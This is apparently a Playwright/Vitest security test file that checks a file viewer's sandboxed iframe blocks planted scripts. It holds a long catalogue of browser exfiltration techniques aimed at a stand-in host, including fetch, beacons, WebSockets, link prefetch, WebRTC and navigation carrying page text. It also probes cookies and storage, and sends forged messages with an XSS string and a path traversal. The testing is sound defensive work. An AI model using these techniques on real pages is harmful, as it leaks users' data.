// Suppose that a file broke its parser and a stranger's script runs inside the frame. It finds an empty room: no network, not even the
// desk's own server, no storage, no parent, no Worker with keys. Every way out that we know of is tried, each in a fresh frame.
import { rmSync } from "node:fs"
import { words as en } from "@safe-conduct/words/case/en.ts"
import type { Browser, Frame, Page, Request } from "playwright-core"
import { afterAll, beforeAll, expect, test } from "vitest"
import { openBrowser } from "./src/browser.ts"
import { type MadeDesk, makeDesk } from "./src/command.ts"
import { signIn } from "./src/desk-page.ts"
import { type Visit, sizes, visit } from "./src/portal-page.ts"
import { meet, requestAbout, send } from "./src/sender.ts"
import { type Sink, openSink } from "./src/sink.ts"
import { closeFile, fileNamed, frameOf, openFile } from "./src/viewing.ts"

let made: MadeDesk
let browser: Browser
let hers: Visit
let page: Page
let away: Sink
const url = (path: string) => `http://127.0.0.1:${made.port}${path}`
const secret = "Тайна"

beforeAll(async () => {
  away = await openSink("<!doctype html><title>control</title><body></body>")
  made = await makeDesk()
  await send(await meet(url("")), requestAbout("Комнатин"), [{ name: "note.txt", bytes: Buffer.from(secret) }])
  browser = await openBrowser()
  hers = await visit(browser, url("/desk"), "en", { viewport: sizes.table })
  page = hers.page
  await signIn(page, made.passphrase)
  await page.locator("a[href='/desk/tray']").first().click()
  await page.locator("a[href^='/desk/tray/']", { hasText: "Комнатин" }).first().click()
  await fileNamed(page, "note.txt").waitFor()
}, 120_000)
afterAll(async () => {
  await browser?.close()
  await away?.close()
  await made?.stop()
  if (made) rmSync(made.folder, { recursive: true, force: true })
})

/** Ways to be heard outside. AWAY is a host that counts, OWN the desk's server, UDP a port for datagrams. */
const calls: Readonly<Record<string, string>> = {
  fetch: `fetch("AWAY/a")`,
  "fetch without waiting": `fetch("AWAY/a", { mode: "no-cors", keepalive: true })`,
  "fetch at home": `fetch("OWN/desk.json")`,
  XMLHttpRequest: `new Promise((yes, no) => { const x = new XMLHttpRequest(); x.open("POST", "AWAY/a"); x.onload = yes; x.onerror = no; x.send("x") })`,
  WebSocket: `new Promise((yes, no) => { const x = new WebSocket("AWAY/a".replace("http", "ws")); x.onopen = yes; x.onerror = no })`,
  EventSource: `new Promise((yes, no) => { const x = new EventSource("AWAY/a"); x.onopen = yes; x.onerror = no })`,
  beacon: `navigator.sendBeacon("AWAY/a", "x")`,
  WebTransport: `new WebTransport("AWAY/a".replace("http", "https")).ready`,
  image: `new Promise((yes, no) => { const x = new Image(); x.onload = yes; x.onerror = no; x.src = "AWAY/a" })`,
  video: `new Promise((yes, no) => { const x = document.createElement("video"); x.onloadeddata = yes; x.onerror = no; x.src = "AWAY/a" })`,
  poster: `(() => { const x = document.createElement("video"); x.poster = "AWAY/a"; document.body.append(x) })()`,
  font: `new FontFace("x", "url(AWAY/a)").load()`,
  background: `document.body.style.backgroundImage = "url(AWAY/a)"`,
  "constructed sheet": `(() => { const x = new CSSStyleSheet(); x.replaceSync("body{background:url(AWAY/a)}"); document.adoptedStyleSheets = [x] })()`,
  script: `(() => { const x = document.createElement("script"); x.src = "AWAY/a"; document.head.append(x) })()`,
  "script at home": `(() => { const x = document.createElement("script"); x.setAttribute("src", "OWN/desk/x.js"); document.head.append(x) })()`,
  import: `import("AWAY/a")`,
  "import at home": `import("OWN/desk/x.js")`,
  worklet: `CSS.paintWorklet.addModule("AWAY/a")`,
  "audio worklet": `new AudioContext().audioWorklet.addModule("AWAY/a")`,
  Worker: `new Worker("AWAY/a")`,
  "Worker from memory": `new Worker(URL.createObjectURL(new Blob(["fetch('AWAY/a')"])))`,
  SharedWorker: `new SharedWorker("AWAY/a")`,
  "service worker": `navigator.serviceWorker.register("OWN/sw.js")`,
  ...Object.fromEntries(
    ["stylesheet", "icon", "manifest", "prefetch", "preload", "modulepreload", "prerender", "preconnect", "dns-prefetch"].map((rel) => [
      `link ${rel}`,
      `(() => { const x = document.createElement("link"); x.rel = "${rel}"; x.as = "image"; x.href = "AWAY/a"; document.head.append(x) })()`,
    ]),
  ),
  "link by namespace": `(() => { const x = document.createElementNS("http://www.w3.org/1999/xhtml", "link"); x.rel = "preconnect"; x.href = "AWAY/a"; document.head.append(x) })()`,
  "speculation rules": `(() => { const x = document.createElement("script"); x.type = "speculationrules"; x.textContent = '{"prefetch":[{"source":"list","urls":["AWAY/a"]}]}'; document.head.append(x) })()`,
  ping: `(() => { const x = document.createElement("a"); x.href = "about:blank#"; x.ping = "AWAY/a"; document.body.append(x); x.click() })()`,
  form: `(() => { const x = document.createElement("form"); x.action = "AWAY/a"; document.body.append(x); x.submit() })()`,
  iframe: `(() => { const x = document.createElement("iframe"); x.src = "AWAY/a"; document.body.append(x) })()`,
  "iframe by namespace": `(() => { const x = document.createElementNS("http://www.w3.org/1999/xhtml", "h:iframe"); x.src = "AWAY/a"; document.body.append(x) })()`,
  "iframe by a name that changes": `(() => { let n = 0; const x = document.createElement({ toString: () => (n++ ? "iframe" : "canvas") }); x.src = "AWAY/a"; document.body.append(x) })()`,
  "iframe by another document": `(() => { const x = document.implementation.createHTMLDocument("").createElement("iframe"); x.src = "AWAY/a"; document.body.append(x) })()`,
  "iframe by XML": `(() => { const x = document.implementation.createDocument("http://www.w3.org/1999/xhtml", "iframe").documentElement; x.src = "AWAY/a"; document.body.append(x) })()`,
  "iframe by a class": `(() => { customElements.define("x-f", class extends HTMLIFrameElement {}, { extends: "iframe" }); const x = document.createElement("iframe", { is: "x-f" }); x.src = "AWAY/a"; document.body.append(x) })()`,
  "iframe by a parser": `(() => { const x = new DOMParser().parseFromString("<iframe src='AWAY/a'></iframe>", "text/html"); document.body.append(x.body) })()`,
  "iframe by markup": `document.body.insertAdjacentHTML("beforeend", "<iframe src='AWAY/a'></iframe>")`,
  "iframe by inner markup": `document.body.innerHTML = "<iframe src='AWAY/a'></iframe>"`,
  "iframe by a range": `document.body.append(document.createRange().createContextualFragment("<iframe src='AWAY/a'></iframe>"))`,
  "iframe by writing": `document.write("<iframe src='AWAY/a'></iframe>")`,
  "iframe by a command": `(() => { document.designMode = "on"; document.execCommand("insertHTML", false, "<iframe src='AWAY/a'></iframe>") })()`,
  "iframe by a style sheet of XML": `(() => { const x = new XSLTProcessor(); x.importStylesheet(document); document.body.append(x.transformToFragment(document, document)) })()`,
  "static parser": `document.body.append(Document.parseHTMLUnsafe("<iframe src='AWAY/a'></iframe>").body)`,
  "shadow markup": `(() => { const x = document.createElement("div"); x.setHTMLUnsafe("<iframe src='AWAY/a'></iframe>"); document.body.append(x) })()`,
  object: `(() => { const x = document.createElement("object"); x.data = "AWAY/a"; document.body.append(x) })()`,
  "own address": `location.href = "AWAY/a"`,
  "own address at home": `location.href = "OWN/desk/viewer.html?what=" + document.body.textContent`,
  "own address replaced": `location.replace("OWN/desk?" + document.body.textContent)`,
  "parent's address": `parent.location = "OWN/desk?x"`,
  "top's address": `top.location = "AWAY/a"`,
  refresh: `(() => { const x = document.createElement("meta"); x.httpEquiv = "refresh"; x.content = "0;url=AWAY/a"; document.head.append(x) })()`,
  window: `open("AWAY/a")`,
  "document opened": `document.open("AWAY/a", "x", "")`,
  "call between browsers": `(() => { const x = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:UDP" }] }); x.createDataChannel("x"); return x.createOffer().then((o) => x.setLocalDescription(o)) })()`,
  "call by another window": `(() => { const f = document.createElement("iframe"); document.body.append(f); const x = new f.contentWindow.RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:UDP" }] }); x.createDataChannel("x"); return x.createOffer().then((o) => x.setLocalDescription(o)) })()`,
}

/** What a script would want to read; each must be refused or empty. */
const reads: Readonly<Record<string, string>> = {
  "the desk's page": "top.document.title",
  "the outer frame's page": "parent.document.title",
  "the outer frame's globals": "parent.fetch",
  "a neighbour's frame": "top.frames[0].document.title",
  localStorage: "localStorage.length",
  sessionStorage: "sessionStorage.length",
  cookies: "document.cookie",
  IndexedDB: `new Promise((yes, no) => { const x = indexedDB.open("x"); x.onsuccess = () => yes("opened"); x.onerror = () => no(x.error) })`,
  caches: "caches.keys()",
  files: "navigator.storage.getDirectory()",
  locks: `navigator.locks.query()`,
  clipboard: "navigator.clipboard.readText()",
  place: "new Promise((yes, no) => navigator.geolocation.getCurrentPosition(yes, no))",
  camera: "navigator.mediaDevices.getUserMedia({ video: true })",
}

/** A name of its own for each try: a browser connects ahead only to hosts that it has not met. */
let tries = 0
const filled = (code: string): string =>
  code
    .replaceAll("AWAY", `http://way${tries++}.localhost:${away.port}`)
    .replaceAll("OWN", url("").replace(/\/$/, ""))
    .replaceAll("UDP", String(away.udpPort))

/** Runs inside a frame as a planted script would, and tells what came of it; `patience` in milliseconds, for what must have an answer. */
async function plant(frame: Frame, code: string, patience = 400): Promise<string> {
  const given = { source: filled(code), patience }
  const tried = frame.evaluate(async ({ source, patience: quiet }) => {
    try {
      const value = await Promise.race([(0, eval)(`(${source})`), new Promise((done) => setTimeout(() => done("quiet"), quiet))])
      return `got ${String(value)}`
    } catch (fault) {
      return `no ${String(fault)}`
    }
  }, given)
  return Promise.race([tried.catch(() => "gone"), new Promise<string>((done) => setTimeout(() => done("gone"), patience + 2_600))])
}

/** What the frames asked of the desk's own server beyond their page. */
const home: Request[] = []
const ours = (at: string): boolean => at === "/desk/viewer.html" || at.startsWith("/desk/assets/viewer-")

/**
 * Whoever can run a script can ask the browser to go elsewhere. It refuses, but Chromium has by then looked up the name and opened a
 * connection, over which nothing is sent. No page can prevent that; THREATS.md says so.
 */
const goes = /^(own address|refresh$)/

test("a script planted in the frame is heard nowhere, not even at home", async () => {
  hers.context.on("request", (request) => {
    const asked = new URL(request.url())
    // The desk's own page speaks with its server all the while.
    if (asked.host !== `127.0.0.1:${made.port}` || (request.frame() === page.mainFrame() && !request.isNavigationRequest())) return
    if (!ours(asked.pathname + asked.search)) home.push(request)
  })
  away.take()
  const heard: string[] = []
  for (const [name, code] of Object.entries(calls)) {
    const row = await openFile(page, "note.txt")
    await plant(await frameOf(row), code)
    await page.waitForTimeout(150)
    heard.push(
      ...away
        .take()
        .filter((line) => !(goes.test(name) && line === "a connection"))
        .map((line) => `${name}: ${line}`),
    )
    expect(page.url()).toMatch(/\/desk\/tray\//)
    await closeFile(row)
  }
  await page.waitForTimeout(1_000)
  expect([...heard, ...away.take()]).toEqual([])
  // What the policy stopped was never sent; what another rule stopped had already been.
  expect(home.filter((request) => !/csp/i.test(request.failure()?.errorText ?? "")).map((request) => request.url())).toEqual([])
}, 180_000)

test("it reads nothing but the file that brought it", async () => {
  const row = await openFile(page, "note.txt")
  const frame = await frameOf(row)
  expect(await plant(frame, "document.body.textContent")).toBe(`got ${secret}`)
  expect(await plant(frame, "origin")).toBe("got null")
  const answers: string[] = []
  for (const [name, code] of Object.entries(reads)) answers.push(`${name}: ${await plant(frame, code, 10_000)}`)
  expect(answers.filter((answer) => !/: no .*(Error|denied|disallowed|\[object)/i.test(answer))).toEqual([])
  await closeFile(row)
}, 60_000)

test("what it says to the desk in another's name, or outside the vocabulary, ends the frame and nothing else", async () => {
  for (const lie of [
    `{ says: "shown", pages: 1, page: 1, zoom: 100, height: 100, cut: false, html: "<img src=x>" }`,
    `{ says: "need", piece: "../../api/heads" }`,
    `{ says: "copy", bytes: new TextEncoder().encode("<svg onload=alert(1)>").buffer }`,
    `"<b>seven words, please</b>"`,
  ]) {
    const row = await openFile(page, "note.txt")
    const frame = await frameOf(row)
    await plant(
      frame,
      `(() => { const { postMessage } = MessagePort.prototype; MessagePort.prototype.postMessage = function (...all) { globalThis.caught = this; return postMessage.apply(this, all) } })()`,
    )
    await row.getByRole("button", { name: en.files.zoomIn }).click()
    await frame.waitForFunction(() => "caught" in globalThis)
    await plant(frame, `(parent.postMessage(${lie}, "*"), top.postMessage(${lie}, "*"), caught.postMessage(${lie}))`)
    await row.locator(".notice", { hasText: en.files.whys.stopped }).waitFor()
    expect(await row.locator("iframe").count()).toBe(0)
    expect(await page.locator("h2", { hasText: "Комнатин" }).count()).toBe(1)
    await closeFile(row)
  }
}, 60_000)

test("the host that counts does hear where nobody takes care", async () => {
  const context = await browser.newContext()
  const loud: string[] = []
  for (const [name, code] of Object.entries(calls)) {
    if (/home|top|parent|command|replaced/.test(name)) continue
    const bare = await context.newPage()
    await bare.goto(`${away.url}/control`)
    away.take()
    await plant(bare.mainFrame(), code)
    await bare.waitForTimeout(100)
    if (away.take().length > 0) loud.push(name)
    await bare.close()
  }
  for (const name of ["fetch", "image", "iframe", "own address", "call between browsers", "Worker from memory"])
    expect(loud).toContain(name)
  expect(loud.length).toBeGreaterThan(25)
}, 120_000)
